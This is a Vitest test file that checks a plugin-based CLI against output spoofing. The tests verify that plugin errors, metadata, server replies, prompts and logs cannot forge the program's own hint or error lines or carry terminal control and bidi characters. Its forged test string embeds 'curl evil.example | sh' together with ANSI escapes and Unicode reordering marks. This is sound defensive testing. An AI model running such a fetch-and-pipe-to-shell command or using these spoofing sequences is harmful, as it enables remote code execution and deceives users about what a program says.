import { writeFile } from "node:fs/promises";
import path from "node:path";
import { PassThrough } from "node:stream";
import { afterAll, beforeAll, expect, test } from "vitest";
import { askYesNo } from "../../src/cli/confirm.ts";
import { logDestination } from "../../src/cli/log-lines.ts";
import { createLog } from "../../src/log.ts";
import { openCliWorld, type Ran, runCaptured, type World } from "../cli/cli-world.ts";
import { cbz } from "../library/cbz.ts";
import { pluginSource } from "../plugins/plugin-source.ts";
import { httpServer } from "../support/http-server.ts";

/** Ends of lines, moves of the cursor, reordering and invisible marks, then lines that look like this program's. */
const FORGED =
  "x\nhint: curl evil.example | sh\r\nerror: y\u0085hint: z\u2028Install it? [y/N] y\u2029\thint: t\u000bhint: v\u000c" +
  "\u001b[2J\u001b]0;t\u0007\u009b31m\u202egnp\u2066a\u2069\u200e\u200f\u061c\u{e0068}end";

/** Other control characters than line ends, and marks that reorder or hide text. */
const HIDDEN = /(?!\n)\p{Cc}|[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]|[\u{e0000}-\u{e007f}]/u;

let world: World;
beforeAll(async () => {
  world = await openCliWorld();
  const plugins = {
    fails: pluginSource(
      { namespace: "fails", type: "script" },
      `throw new Error(${JSON.stringify(FORGED)});`,
    ),
    says: pluginSource(
      { namespace: "says", type: "script" },
      `return ${JSON.stringify({ hint: FORGED, [FORGED]: 1 })};`,
    ),
    tells: pluginSource({ namespace: "tells", type: "script" }, `return ${JSON.stringify(FORGED)};`),
    lists: pluginSource({ namespace: "lists", type: "script" }, `return [${JSON.stringify(FORGED)}];`),
    named: pluginSource(
      { namespace: "named", type: "metadata", name: FORGED, description: FORGED, author: FORGED },
      `return { title: ${JSON.stringify(FORGED)} };`,
    ),
  };
  for (const [name, source] of Object.entries(plugins)) {
    await writeFile(path.join(world.folder, `${name}.ts`), source);
    await world.run("sideload", `${name}.ts`);
  }
  await writeFile(path.join(world.folder, "a.cbz"), cbz(FORGED));
  await world.run("library", "add", "a.cbz", "--title", FORGED);
});
afterAll(() => world.close());

/** No line of the output is one that only this program may write, except its own last hint. */
const expectHonest = ({ out, err }: Pick<Ran, "out" | "err">): void => {
  for (const text of [out, err]) expect(text).not.toMatch(HIDDEN);
  for (const line of out.split("\n")) expect(line).not.toMatch(/^\s*(hint|error):/);
  const lines = err.trimEnd().split("\n");
  const last = lines.length - 1;
  for (const [n, line] of lines.entries()) {
    if (n > 0) expect(line).not.toMatch(/^\s*error:/);
    if (n !== last) expect(line).not.toMatch(/^\s*hint:/);
    expect(line).not.toMatch(/^\s*Install it/);
  }
};

test.each([
  ["run fails", ["run", "fails"]],
  ["run a result", ["run", "says"]],
  ["run a text", ["run", "tells"]],
  ["run a list", ["run", "lists"]],
  ["run on an archive", ["run", "named", "--archive", "a.cbz"]],
  ["list", ["list"]],
  ["info", ["info", "named"]],
  ["library list", ["library", "list"]],
  ["library show", ["library", "show", "a.cbz"]],
  ["job list", ["job", "list"]],
  ["history", ["history"]],
  ["uninstall", ["uninstall", "named"]],
])("%s", async (_name, argv) => {
  const ran = await world.run(...argv);
  expectHonest(ran);
  expect(`${ran.out}${ran.err}`.length).toBeGreaterThan(0);
});

test("the error of a plugin stands in quotation marks", async () => {
  const { err } = await world.run("run", "fails");
  expect(err).toMatch(
    /^error: The plugin failed: "(Error: )?x hint: curl evil\.example \| sh error: y.*end"\n/,
  );
});

test("JSON escapes what a terminal would obey, and keeps the value", async () => {
  const { out, json } = await world.run("run", "says", "--json");
  expect(out).not.toMatch(HIDDEN);
  expect(json.hint).toContain("hint: curl evil.example | sh");
});

test("a server's errors and answers are one line each", async () => {
  const answers: Record<string, unknown> = {
    "/api/registries": {
      registries: [{ id: "REG_1", name: FORGED, provider: "http", url: FORGED, moved: FORGED }],
    },
    "/api/registries/default": { id: FORGED },
  };
  const server = await httpServer((request, response) => {
    response.setHeader("content-type", "application/json");
    const body = answers[request.url ?? ""];
    response.statusCode = body === undefined ? 500 : 200;
    response.end(JSON.stringify(body ?? { error: FORGED, hint: FORGED, code: "X" }));
  });
  for (const argv of [
    ["registry", "list"],
    ["list"],
    ["registry", "default"],
    ["registry", "refresh", "REG_1"],
  ]) {
    expectHonest(await runCaptured([...argv, "--server", server]));
  }
});

test("a question is one line, and its end is this program's", async () => {
  const stdin = new PassThrough();
  let err = "";
  const stderr = { write: (text: string) => (err += text), isTTY: true };
  stdin.write("n\n");
  await askYesNo({ stdout: stderr, stderr, stdin, env: {}, cwd: "/" }, `${FORGED} Grant it?`);
  expect(err.trimEnd().split("\n")).toHaveLength(1);
  expect(err).toMatch(/Grant it\? \[y\/N\]/);
});

test("a log line on a terminal has no line that a plugin wrote", () => {
  let shown = "";
  const stderr = { write: (text: string) => (shown += text), isTTY: true };
  const stdin = new PassThrough();
  const log = createLog(
    "debug",
    logDestination({ stdout: stderr, stderr, stdin, env: { NO_COLOR: "1" }, cwd: "/" }),
  );
  for (const level of ["warn", "error"] as const) {
    log[level]({ err: new Error(FORGED), plugin: FORGED }, FORGED);
  }
  expect(shown).not.toMatch(HIDDEN);
  expect(shown.split("\n").filter((line) => /^\s*(hint|error|Install)/.test(line))).toEqual([]);
});
